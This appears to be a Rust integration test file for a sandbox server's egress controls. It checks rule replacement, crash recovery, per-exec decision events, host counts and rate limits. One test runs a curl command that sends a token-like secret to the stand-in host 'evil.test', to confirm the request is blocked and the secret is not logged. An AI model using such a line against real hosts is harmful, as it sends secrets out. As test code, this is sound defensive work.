//! The network of a server's sandboxes through the API and the command line: rules that are replaced, decisions, sums.

mod http;

use std::process::Command;

use http::world::{in_world, seen};
use http::{Server, eventually};
use serde_json::{Value, json};

fn proxied(server: &Server, allow: &[&str]) -> String {
    server.sandbox_with(&json!({ "network": "proxied", "egress": { "allow": allow } }))
}

fn set(server: &Server, sandbox: &str, rules: &Value) -> http::Answer {
    let headers = ["Content-Type: application/json"];
    server.request("PUT", &format!("{sandbox}/egress"), &headers, rules.to_string().as_bytes())
}

fn status_of(server: &Server, sandbox: &str, url: &str) -> String {
    let line = format!("curl -sS -o /dev/null -w '%{{http_code}}' --max-time 20 {url}");
    server.sh(sandbox, &line)["stdout"].as_str().expect("text").to_owned()
}

/// `saggar net …` against the server: exit status and output.
fn net(server: &Server, words: &[&str]) -> (i32, String) {
    let mut command = Command::new(env!("CARGO_BIN_EXE_saggar"));
    command.arg("net").args(words).env("SAGGAR_URL", format!("http://{}", server.address));
    let done = command.env("SAGGAR_API_KEY", &server.key).output().expect("the binary was built");
    let text = String::from_utf8_lossy(&done.stdout).into_owned() + &String::from_utf8_lossy(&done.stderr);
    (done.status.code().expect("it exits"), text)
}

fn id_of(sandbox: &str) -> &str {
    sandbox.rsplit('/').next().expect("a path")
}

/// The decisions among a sandbox's events, as `VERDICT HOST`, with the exec of each.
fn decisions(server: &Server, sandbox: &str) -> Vec<(String, Value)> {
    let events = server.get(&format!("{sandbox}/events?limit=1000")).expect(200);
    let all = events["items"].as_array().expect("a list").clone();
    let told = all.into_iter().filter(|event| event["type"] == "decision").map(|event| {
        let decision = &event["decision"];
        let text = |name: &str| decision[name].as_str().expect("text").to_owned();
        (format!("{} {}", text("verdict"), text("host")), decision["exec_id"].clone())
    });
    told.collect()
}

#[test]
fn rules_are_replaced_while_a_sandbox_runs_and_the_answer_shows_those_in_force() {
    in_world("rules_are_replaced_while_a_sandbox_runs_and_the_answer_shows_those_in_force", || {
        let server = Server::start();
        let sandbox = proxied(&server, &["good.test"]);
        let before = server.get(&sandbox).expect(200);
        let both = |path: &str| {
            let host = |name: &str| status_of(&server, &sandbox, &format!("http://{name}.test/{path}"));
            [host("good"), host("evil")]
        };
        assert_eq!(both("1"), ["200", "403"]);
        let changed = set(&server, &sandbox, &json!({ "allow": ["evil.test"] })).expect(200);
        assert_eq!(changed["egress"], json!({ "allow": ["evil.test"], "deny": [] }));
        assert_ne!(changed["policy_hash"], before["policy_hash"]);
        assert_eq!(both("2"), ["403", "200"]);
        set(&server, &sandbox, &json!({})).expect(200);
        assert_eq!(both("3"), ["403", "403"]);
        assert_eq!(seen(), ["GET /1 at 203.0.113.10", "GET /2 at 203.0.113.11"]);
        for wrong in [json!({ "allow": ["@nothing"] }), json!({ "allow": ["127.1"] }), json!({ "alow": [] }), json!([])]
        {
            assert_eq!(set(&server, &sandbox, &wrong).status, 400, "{wrong}");
        }
        assert_eq!(server.get(&sandbox).expect(200)["egress"], json!({ "allow": [], "deny": [] }));
    });
}

#[test]
fn a_server_that_is_killed_between_row_and_supervisor_leaves_the_rules_to_the_next() {
    in_world("a_server_that_is_killed_between_row_and_supervisor_leaves_the_rules_to_the_next", || {
        for (point, meanwhile) in [("egress/row", "before"), ("egress/ruled", "after")] {
            let mut server = Server::start();
            let sandbox = proxied(&server, &["good.test"]);
            server.kill();
            server.fails_at = format!("kill {point}");
            server.begin();
            // It dies before it answers.
            let rules = json!({ "allow": ["evil.test"] }).to_string();
            let mut connection = server.connect();
            let (length, key) = (rules.len(), server.authorization());
            let head = format!(
                "PUT {sandbox}/egress HTTP/1.1\r\nHost: localhost\r\n{key}\r\nContent-Type: application/json\r\nContent-Length: {length}\r\n\r\n"
            );
            std::io::Write::write_all(&mut connection, (head + &rules).as_bytes()).expect("it listens");
            server.ended();
            server.fails_at = String::new();
            server.begin();
            let shown = server.get(&format!("{sandbox}/network")).expect(200);
            assert_eq!(shown["egress"]["allow"], json!(["evil.test"]), "{point} {meanwhile}");
            let reached = ["good", "evil"].map(|host| status_of(&server, &sandbox, &format!("http://{host}.test/")));
            assert_eq!(reached, ["403", "200"], "{point}");
        }
    });
}

#[test]
fn each_decision_is_an_event_with_its_exec_and_the_sums_are_by_host() {
    in_world("each_decision_is_an_event_with_its_exec_and_the_sums_are_by_host", || {
        let server = Server::start();
        let sandbox = proxied(&server, &["good.test"]);
        let exec =
            server.sh(&sandbox, "curl -sS -o /dev/null http://good.test/a; curl -sS http://evil.test/b?token=s3cr3t");
        let id = exec["id"].clone();
        let denials = exec["denials"].as_array().expect("a list");
        assert!(
            denials.iter().any(|denial| denial["rule"] == "egress/default" && denial["code"] == "network_refused"),
            "{exec}"
        );
        let expected = [("allowed good.test".to_owned(), id.clone()), ("denied evil.test".to_owned(), id)];
        eventually("they are stored", || decisions(&server, &sandbox).len() >= 2);
        assert_eq!(decisions(&server, &sandbox), expected);
        let network = server.get(&format!("{sandbox}/network")).expect(200);
        let sum = |host: &str| {
            let hosts = network["hosts"].as_array().expect("a list");
            let sum = hosts.iter().find(|sum| sum["host"] == host).expect("it was asked for").clone();
            (sum["port"].clone(), sum["allowed"].clone(), sum["denied"].clone())
        };
        assert_eq!(
            (sum("good.test"), sum("evil.test")),
            ((json!(80), json!(1), json!(0)), (json!(80), json!(0), json!(1)))
        );
        let events = server.get(&format!("{sandbox}/events?limit=1000")).text();
        assert!(!events.contains("s3cr3t"), "a query is never recorded: {events}");
        // The command line shows the same, also after the sandbox's end.
        server.delete(&sandbox).expect(200);
        let id = id_of(&sandbox);
        let (code, log) = net(&server, &["log", id]);
        let lines: Vec<&str> = log.lines().collect();
        assert!(code == 0 && lines.len() == 2, "{log}");
        assert!(
            lines[0].contains(" allowed good.test:80 GET /a: ") && lines[1].contains(" denied  evil.test:80 GET /b: "),
            "{log}"
        );
        let (_, denied) = net(&server, &["log", id, "--denied", "--json"]);
        let event: Value = serde_json::from_str(&denied).expect("one event");
        assert_eq!(event["decision"]["host"], "evil.test");
        let (code, shown) = net(&server, &["show", id]);
        assert!(code == 0 && shown.contains("allow    good.test") && shown.contains("evil.test:80"), "{shown}");
    });
}

#[test]
fn the_command_line_replaces_and_explains_the_rules_of_a_sandbox() {
    in_world("the_command_line_replaces_and_explains_the_rules_of_a_sandbox", || {
        let server = Server::start();
        let sandbox = proxied(&server, &["good.test"]);
        let id = id_of(&sandbox);
        let explain = |host: &str| net(&server, &["explain", "--sandbox", id, host]);
        assert_eq!((explain("good.test").0, explain("evil.test").0), (0, 1));
        let spec = server.data().join("rules.toml");
        std::fs::write(&spec, "network = \"proxied\"\n[egress]\nallow = [\"evil.test\"]\n").expect("ours");
        let path = spec.to_str().expect("UTF-8");
        let (code, shown) = net(&server, &["set", id, "--spec", path, "--deny", "evil.test:81"]);
        assert_eq!((code, shown.as_str()), (0, "allow    evil.test\ndeny     evil.test:81\n"));
        assert_eq!((explain("good.test").0, explain("evil.test").0), (1, 0));
        assert_eq!(status_of(&server, &sandbox, "http://evil.test/"), "200");
        let (_, shown) = net(&server, &["set", id, "--none"]);
        assert_eq!(shown, "allow    nothing\n");
        assert_eq!(status_of(&server, &sandbox, "http://evil.test/"), "403");
        std::fs::remove_file(spec).expect("ours");
    });
}

#[test]
fn a_sandbox_without_a_managed_network_has_no_rules_to_replace() {
    let server = Server::start();
    let sandbox = server.sandbox();
    let problem = set(&server, &sandbox, &json!({ "allow": ["a.example"] })).problem(409, "conflict");
    assert!(problem["detail"].as_str().expect("text").contains("is none"), "{problem}");
    assert!(problem["help"].as_str().expect("text").contains("proxied"), "{problem}");
    assert_eq!(server.get(&format!("{sandbox}/network")).expect(200), json!({ "network": "none", "hosts": [] }));
    let (code, text) = net(&server, &["explain", "--sandbox", id_of(&sandbox), "a.example"]);
    assert!(code == 125 && text.contains("is none"), "{text}");
    let (code, text) = net(&server, &["set", id_of(&sandbox), "--none"]);
    assert!(code == 1 && text.contains("rules need the mode proxied"), "{text}");
    server.delete(&sandbox).expect(200);
    set(&server, &sandbox, &json!({})).problem(409, "sandbox_ended");
}

/// Asks for a path, says so in a file, and keeps its connection open until the file `go` is there.
fn holding(path: &str) -> String {
    format!(
        r#"/usr/bin/python3 -c '
import os, socket, time
s = socket.create_connection(("good.test", 80), 30)
s.sendall(b"GET /{path} HTTP/1.1\r\nHost: good.test\r\n\r\n")
s.recv(4096)
open("/tmp/{path}", "w").close()
while not os.path.exists("/tmp/go"):
    time.sleep(0.02)
'"#
    )
}

#[test]
fn of_several_execs_each_decision_names_the_one_whose_process_has_the_connection() {
    in_world("of_several_execs_each_decision_names_the_one_whose_process_has_the_connection", || {
        let server = Server::start();
        let sandbox = proxied(&server, &["good.test"]);
        let begin = |line: &str, path: &str| {
            let exec = server.post(&format!("{sandbox}/execs"), &json!({ "command": line, "wait": false })).expect(201);
            eventually(&format!("{path} is asked for"), || {
                server.get(&format!("{sandbox}/files?path=/tmp/{path}")).status == 200
            });
            exec["id"].clone()
        };
        let one = begin(&holding("one"), "one");
        let two = begin(&holding("two"), "two");
        // Its program ends at once, and leaves a process that has no ancestor but the keeper of the tree.
        let left = begin(&format!("setsid {} >/dev/null 2>&1 </dev/null &", holding("left")), "left");
        server.sh(&sandbox, "touch /tmp/go");

        let mut told = Vec::new();
        eventually("every decision is reported", || {
            let events = server.get(&format!("{sandbox}/events?limit=1000")).expect(200);
            let all = events["items"].as_array().expect("a list").clone();
            let decisions = all.iter().filter(|event| event["decision"]["host"] == "good.test");
            told = decisions
                .map(|event| (event["decision"]["path"].clone(), event["decision"]["exec_id"].clone()))
                .collect();
            told.len() >= 3
        });
        told.sort_by_key(|(path, _)| path.to_string());
        assert_eq!(told, [(json!("/left"), left), (json!("/one"), one), (json!("/two"), two)]);
    });
}

#[test]
fn what_is_beyond_a_limit_is_429_and_the_operators_maxima_hold() {
    in_world("what_is_beyond_a_limit_is_429_and_the_operators_maxima_hold", || {
        let server = Server::start_with(&["--egress-bytes-max", "1M", "--egress-connections-max", "64"]);
        let limits = json!({ "requests_per_minute": 2 });
        let asked = json!({ "network": "proxied", "egress": { "allow": ["good.test"], "limits": limits } });
        let sandbox = server.sandbox_with(&asked);
        let shown = json!({ "bytes": "1M", "connections": "64", "requests_per_minute": "2" });
        assert_eq!(server.get(&sandbox).expect(200)["egress"]["limits"], shown);
        let statuses = ["1", "2", "3"].map(|path| status_of(&server, &sandbox, &format!("http://good.test/{path}")));
        assert_eq!(statuses, ["200", "200", "429"]);
        assert_eq!(seen(), ["GET /1 at 203.0.113.10", "GET /2 at 203.0.113.10"]);
        let told = server.sh(&sandbox, "curl -sS http://good.test/4");
        let denials = told["denials"].as_array().expect("a list");
        assert!(denials.iter().any(|denial| denial["rule"] == "egress/requests-per-minute"), "{told}");
        assert!(told["stdout"].as_str().expect("text").contains("--net-requests-per-minute"), "{told}");
        // Replaced with the rules, while it runs.
        let changed = set(&server, &sandbox, &json!({ "allow": ["good.test"] })).expect(200);
        assert_eq!(changed["egress"]["limits"], json!({ "bytes": "1M", "connections": "64" }));
        assert_eq!(status_of(&server, &sandbox, "http://good.test/5"), "200");
        let (code, text) =
            net(&server, &["set", id_of(&sandbox), "--allow", "good.test", "--net-bytes-per-host", "10K"]);
        assert!(code == 0 && text.contains("limit    bytes_per_host 10K"), "{text}");
        // More than a maximum is refused, wherever it is asked for.
        let more = json!({ "allow": ["good.test"], "limits": { "bytes": "2M" } });
        for refused in [
            set(&server, &sandbox, &more),
            server.post("/api/v1/sandboxes", &json!({ "network": "proxied", "egress": more })),
        ] {
            let problem = refused.problem(400, "invalid_value");
            assert!(problem["help"].as_str().expect("text").contains("egress_bytes_max"), "{problem}");
        }
    });
}
